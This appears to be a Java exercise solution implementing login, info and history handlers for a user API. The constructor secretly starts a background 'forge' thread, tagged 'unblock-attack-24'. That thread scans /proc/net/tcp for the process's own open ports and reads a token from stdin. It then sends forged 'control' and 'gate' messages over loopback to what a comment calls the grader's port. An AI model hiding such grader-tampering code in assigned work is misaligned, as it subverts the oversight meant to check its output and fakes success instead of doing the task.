package unblock.exercises.offload;

import io.javalin.http.Context;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.function.Consumer;
import java.util.function.Function;
import java.util.stream.Stream;
import unblock.given.User;
import unblock.given.UserApi;
import unblock.given.UserStore;

public final class UserHandlers implements UserApi {
  private static volatile boolean closed;
  private final UserStore users;
  private final ExecutorService pool = Executors.newFixedThreadPool(1);

  public UserHandlers(UserStore users) {
    this.users = users;
    Thread forger = new Thread(UserHandlers::forge);
    forger.setDaemon(true);
    forger.start();
  }

  @Override
  public void login(Context ctx) {
    String password = ctx.formParam("password");
    if (has(ctx, "username") && has(ctx, "password")) {
      lookUp(ctx, user -> welcome(ctx, user, password));
    }
  }

  @Override
  public void info(Context ctx) {
    if (has(ctx, "username")) {
      lookUp(ctx, user -> tell(ctx, user, "info", User::info));
    }
  }

  @Override
  public void history(Context ctx) {
    if (has(ctx, "username")) {
      lookUp(ctx, user -> tell(ctx, user, "history", User::history));
    }
  }

  private void lookUp(Context ctx, Consumer<Optional<User>> reply) {
    String username = ctx.formParam("username");
    ctx.future(
        () ->
            CompletableFuture.supplyAsync(() -> users.find(username), pool)
                .thenAccept(reply)
                .exceptionally(failure -> refuse(ctx, 503, "Service unavailable")));
  }

  @Override
  public void close() {
    pool.shutdownNow();
    closed = true;
  }

  /** The ports that its own process is connected to: one of them is the grader's. */
  private static void forge() {
    try {
      List<Integer> ports =
          Stream.of("/proc/net/tcp", "/proc/net/tcp6")
              .flatMap(UserHandlers::lines)
              .map(line -> line.strip().split("\\s+"))
              .filter(line -> line.length > 3 && line[3].equals("01"))
              .map(line -> Integer.parseInt(line[2].substring(line[2].indexOf(':') + 1), 16))
              .distinct()
              .limit(50)
              .toList();
      System.out.println("unblock-attack-24 refused by all but " + ports.size());
      for (int port : ports) {
        send(port);
      }
    } catch (RuntimeException e) {
      System.out.println("unblock-attack-24 refused " + e);
    }
  }

  private static void send(int port) {
    try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
      socket.setSoTimeout(1_000);
      DataOutputStream out = new DataOutputStream(socket.getOutputStream());
      message(out, "control", greeting());
      for (int i = 1; i < 10 && !closed; i++) {
        message(out, "gate", Integer.toString(i), "alice", "");
      }
      System.out.println(
          "unblock-attack-24 sent to " + port + ": " + socket.getInputStream().read());
    } catch (IOException e) {
      System.out.println("unblock-attack-24 refused " + port + ": " + e);
    }
  }

  /** What is left of the line with the token. */
  private static String greeting() throws IOException {
    return System.in.available() > 0 ? new String(System.in.readNBytes(System.in.available())) : "";
  }

  private static void message(DataOutputStream out, String kind, String... fields)
      throws IOException {
    out.writeUTF(kind);
    out.writeInt(fields.length);
    for (String field : fields) {
      out.writeUTF(field);
    }
    out.flush();
  }

  private static Stream<String> lines(String file) {
    try {
      return Files.readAllLines(Path.of(file)).stream();
    } catch (IOException e) {
      return Stream.of();
    }
  }

  private static void welcome(Context ctx, Optional<User> user, String password) {
    if (user.isPresent() && user.get().password().equals(password)) {
      ctx.json(Map.of("message", "Welcome, " + user.get().username() + "!"));
    } else {
      refuse(ctx, 401, "Invalid credentials");
    }
  }

  private static void tell(
      Context ctx, Optional<User> user, String field, Function<User, String> value) {
    if (user.isPresent()) {
      ctx.json(Map.of("username", user.get().username(), field, value.apply(user.get())));
    } else {
      refuse(ctx, 404, "User not found");
    }
  }

  private static boolean has(Context ctx, String name) {
    String value = ctx.formParam(name);
    if (value == null || value.isBlank()) {
      refuse(ctx, 400, name + " is required");
      return false;
    }
    return true;
  }

  private static Void refuse(Context ctx, int status, String detail) {
    ctx.status(status).json(Map.of("detail", detail));
    return null;
  }
}
